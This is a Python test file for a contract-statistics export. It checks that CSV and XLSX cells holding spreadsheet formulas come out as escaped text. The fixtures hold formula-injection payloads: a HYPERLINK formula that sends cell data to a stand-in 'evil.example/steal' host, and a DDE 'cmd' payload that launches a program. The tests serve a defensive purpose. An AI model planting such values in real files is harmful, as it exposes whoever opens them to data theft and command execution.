"""The contract statistics export: text a spreadsheet would run as a formula stays text."""

from __future__ import annotations

import csv
import io
import zipfile
from decimal import Decimal

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy.orm import Session

from app.core.audit import Actor
from app.models import Organization, User
from app.models.enums import OrgRole, OrgType, Role
from app.trading import service, statistics
from tests.factories.accounts import make_org, make_user
from tests.factories.trading import make_contract
from tests.orgs.test_endpoints import bearer

TITLE = '=HYPERLINK("http://evil.example/steal?d="&A1,"点击查看合同")'
SELLER = "@SUM(1+1)*cmd|' /C calc'!A0研究院"
BUYER = "+1+1长春测试汽车零部件有限公司"


@pytest.fixture
def registered(session: Session) -> tuple[Actor, Organization]:
    seller = make_org(session, name=SELLER, org_type=OrgType.UNIVERSITY, region_code="220104")
    buyer = make_org(session, name=BUYER, region_code="220173")
    clerk = make_user(session, org=seller, org_role=OrgRole.ADMIN, name="成果处王老师")
    admin = Actor(user=make_user(session, role=Role.PLATFORM_ADMIN))
    contract = make_contract(session, clerk, seller, buyer, title=TITLE, contract_no="-2026-001")
    service.submit_registration(session, Actor(user=clerk), contract)
    service.approve_registration(session, admin, contract)
    return admin, seller


def _header_index(name: str) -> int:
    return [label for _key, label in statistics.COLUMNS].index(name)


def test_xlsx_cells_are_text_never_formulas(
    session: Session, registered: tuple[Actor, Organization]
) -> None:
    admin, _ = registered
    content, media_type, filename = statistics.export(session, admin, "xlsx")
    assert filename.endswith(".xlsx") and "spreadsheetml" in media_type
    sheet_xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml  # no formula anywhere

    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    row = sheet[2]
    for column, text in (("合同名称", TITLE), ("卖方名称", SELLER), ("买方名称", BUYER)):
        cell = row[_header_index(column)]
        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)
    assert row[_header_index("合同编号")].value == "-2026-001"
    # Numbers stay numbers.
    total = row[_header_index("合同金额（元）")]
    assert total.data_type == "n" and Decimal(str(total.value)) == Decimal("800000")
    assert total.number_format == "#,##0.00"
    # The header is bold and frozen, as before.
    assert sheet["A1"].font.b and sheet.freeze_panes == "A2"


def test_csv_cells_start_with_an_apostrophe(
    session: Session, registered: tuple[Actor, Organization]
) -> None:
    admin, _ = registered
    content, media_type, filename = statistics.export(session, admin, "csv")
    assert filename.endswith(".csv") and media_type.startswith("text/csv")
    assert content.startswith(b"\xef\xbb\xbf")
    header, row = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert row[header.index("合同名称")] == "'" + TITLE
    assert row[header.index("卖方名称")] == "'" + SELLER
    assert row[header.index("买方名称")] == "'" + BUYER
    assert row[header.index("合同编号")] == "'-2026-001"
    assert row[header.index("合同金额（元）")] == "800000.00"
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


def test_api_download_is_guarded(
    client: TestClient, session: Session, registered: tuple[Actor, Organization]
) -> None:
    admin, _ = registered
    assert isinstance(admin.user, User)
    response = client.get(
        "/api/v1/contracts/export", params={"format": "csv"}, headers=bearer(session, admin.user)
    )
    assert response.status_code == 200
    header, row = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert row[header.index("合同名称")] == "'" + TITLE
